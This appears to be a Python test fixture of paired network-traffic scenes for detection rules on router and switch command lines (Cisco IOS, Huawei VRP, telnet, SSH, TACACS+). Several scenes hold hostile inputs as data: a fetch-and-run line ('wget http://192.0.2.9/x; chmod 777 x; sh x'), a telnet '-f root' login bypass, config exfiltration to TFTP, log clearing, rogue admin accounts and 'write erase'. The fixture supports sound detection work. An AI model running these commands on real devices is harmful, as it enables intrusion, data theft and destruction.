"""Scenes for the rules over command lines: one that must fire, one that must not."""
import struct

from traffic import repeat, ssh, stream, tacacs, telnet


def typed(command, other='show version', vendor='ios', config=True):
    return telnet(command, vendor, config), telnet(other, vendor, config)


def accounted(command, again=1):
    """An accounting record of TACACS+ that tells of COMMAND."""
    words = command.split()
    args = [b'cmd=' + words[0].encode()] + [b'cmd-arg=' + w.encode() for w in words[1:]]
    user, port, where = b'op', b'tty1', b'192.0.2.7'
    body = bytes([2, 6, 15, 1, 1, len(user), len(port), len(where), len(args)]) + bytes(len(a) for a in args)
    return tacacs(3, body + user + port + where + b''.join(args), again=again)


def login(status, again=1):
    """A reply of a TACACS+ server: 1 pass, 2 fail."""
    def scene(x):
        for n in range(again):
            start = bytes([1, 1, 1, 1, 2, 4, 3, 0]) + b'optty1abc'
            head = struct.pack('!BBBBII', 0xc0, 1, 1, 1, 9000 + n, len(start))
            reply = struct.pack('!BBHH', status, 0, 0, 0)
            x.tcp(49, head + start, ('s', struct.pack('!BBBBII', 0xc0, 1, 2, 1, 9000 + n, len(reply)) + reply))
    return scene


CASES = {
    9305001: typed('monitor capture tap interface gi0/1 both', 'show monitor capture', config=False),
    9305002: typed('copy bootflash:tac.pcap ftp://192.0.2.9/', 'copy running-config startup-config', config=False),
    9305003: typed('monitor session 1 source interface gi0/1'),
    9305004: typed('interface Tunnel7', 'interface Loopback7'),
    9305005: typed('no logging host 192.0.2.9', 'logging host 192.0.2.9'),
    9305006: typed('clear logging', 'show logging', config=False),
    9305007: typed('no archive', 'archive'),
    9305008: typed('username eve secret x', 'show users'),
    9305009: typed('username eve privilege 15 secret x', 'username eve privilege 1 secret x'),
    9305010: typed('enable secret x', 'banner motd x'),
    9305011: typed('aaa authentication login default local', 'show aaa servers'),
    9305012: typed('no aaa new-model', 'aaa new-model'),
    9305013: typed('snmp-server community c0mm RW', 'snmp-server community c0mm RO'),
    9305014: typed('snmp-server group g v3 priv', 'snmp-server location x'),
    9305015: typed('access-list 20 permit 192.0.2.9', 'show access-lists'),
    9305016: typed('guestshell enable', 'show guestshell detail', config=False),
    9305017: typed('service sshd_operns start', 'service timestamps log', config=False),
    9305018: typed('event manager applet x', 'show event manager policy'),
    9305019: typed('reload in 5', 'show reload', config=False),
    9305020: typed('write erase', 'write memory', config=False),
    9305021: typed('format flash:', 'dir flash:', config=False),
    9305022: typed('boot system flash:x.bin', 'show boot'),
    9305023: typed('install add file flash:x.bin activate commit', 'show install summary', config=False),
    9305024: typed('copy running-config tftp://192.0.2.9/r1', 'copy running-config startup-config', config=False),
    9305025: typed('configure replace flash:x force', 'show archive', config=False),
    9305026: typed('shutdown', 'no shutdown'),
    9305027: typed('ip http server', 'no ip http server'),
    9305028: typed('ip ssh version 1', 'ip ssh version 2'),
    9305029: typed('ntp server 192.0.2.9', 'show ntp status'),
    9305030: typed('neighbor 192.0.2.9 remote-as 64500', 'show ip bgp summary'),
    9305031: (stream(23, b'\xff\xfa\x27\x00\x00USER\x01-f root\xff\xf0'), stream(23, b'\xff\xfa\x27\x00\x00USER\x01op\xff\xf0')),
    9305032: (stream(23, ('s', b'# '), b'/bin/busybox ECCHI\r\n'), stream(23, ('s', b'# '), b'ls /bin\r\n')),
    9305033: (stream(23, ('s', b'# '), b'cd /tmp; wget http://192.0.2.9/x; chmod 777 x; sh x\r\n'), stream(23, ('s', b'# '), b'wget http://192.0.2.9/x\r\n')),
    9306001: (ssh('libssh_0.8.1'), ssh('libssh_0.9.6')),
    9306002: (ssh('Erlang/5.1.4'), ssh('OpenSSH_9.9')),
    9306003: (ssh('OpenSSH_9.2p1'), ssh('OpenSSH_9.9')),
    9306004: (ssh('OpenSSH_5.3'), ssh('OpenSSH_9.9')),
    9306005: (ssh('dropbear_2014.63'), ssh('dropbear_2022.83')),
    9306006: (ssh('RomSShell_4.31'), ssh('OpenSSH_9.9')),
    9306007: (ssh('Cisco-1.25', proto='1.99'), ssh('Cisco-1.25')),
    9306008: (ssh(port=57722), ssh(port=57723)),
    9306009: (ssh(port=22222), ssh(port=22221)),
    9306010: (ssh(client='paramiko_2.4'), ssh(client='OpenSSH_9.9')),
    9306011: (ssh(kex='diffie-hellman-group1-sha1'), ssh()),
    9306012: (ssh(cipher='3des-cbc'), ssh()),
    9306013: (ssh(again=35), ssh(again=5)),
    9306014: (ssh('Cisco-1.25', port=2200), ssh('Cisco-1.25')),
    9308001: (login(1), lambda x: x.tcp(49, struct.pack('!BBBBII', 0xc0, 1, 1, 0, 9, 24) + bytes(range(24)))),
    9308002: (login(2, again=6), login(1, again=6)),
    9308003: (accounted('monitor capture tap start'), accounted('show version')),
}


def config(command, vendor='ios', other='interface Loopback0'):
    return telnet(command, vendor), telnet(other, vendor)


CASES |= {
    9317001: (telnet('write erase', config=False), telnet('write memory', config=False)),
    9317002: (telnet('reload', config=False), telnet('show reload', config=False)),
    9317003: (telnet('copy running-config tftp://192.0.2.9/r1', config=False), telnet('copy running-config startup-config', config=False)),
    9317004: (telnet('copy tftp://192.0.2.9/r1 running-config', config=False), telnet('show running-config', config=False)),
    9317005: (telnet('archive download-sw tftp://192.0.2.9/x.tar', config=False), telnet('show version', config=False)),
    9317006: config('local-user eve password cipher x', 'vrp', 'interface LoopBack0'),
    9317007: config('hwtacacs-server template t', 'vrp', 'interface LoopBack0'),
    9317008: config('undo info-center enable', 'vrp', 'interface LoopBack0'),
    9317009: config('snmp-server community c0mm RW'),
    9317010: config('monitor session 1 source interface gi0/1'),
    9317011: config('interface Tunnel7'),
    9317012: config('event manager applet x'),
    9317013: config('crypto key generate rsa modulus 2048'),
    9317014: config('ip route 0.0.0.0 0.0.0.0 192.0.2.9'),
    9317015: config('access-list 20 permit 192.0.2.9'),
    9317016: config('ip http server'),
    9317017: (repeat(6, stream(23, ('s', b'\r\nUser Access Verification\r\n\r\nUsername: '), b'op\r\n', ('s', b'op\r\nPassword: '), b'x\r\n',
                               ('s', b'\r\n% Login invalid\r\n\r\nUsername: '))), telnet('show version', config=False)),
    9317018: (stream(23, ('s', b'\r\nUser Access Verification\r\n\r\nUsername: '), b'op\r\n', ('s', b'op\r\nPassword: '), b'x\r\n', ('s', b'\r\nR1#'),
                     b'configure terminal\r\n', ('s', b'configure terminal\r\nR1(config)#'), b'username eve secret x\r\n',
                     ('s', b'username eve secret x\r\n% Authorization failed.\r\n\r\nR1(config)#'), b'end\r\n', ('s', b'end\r\nR1#')),
              telnet('username eve secret x')),
}
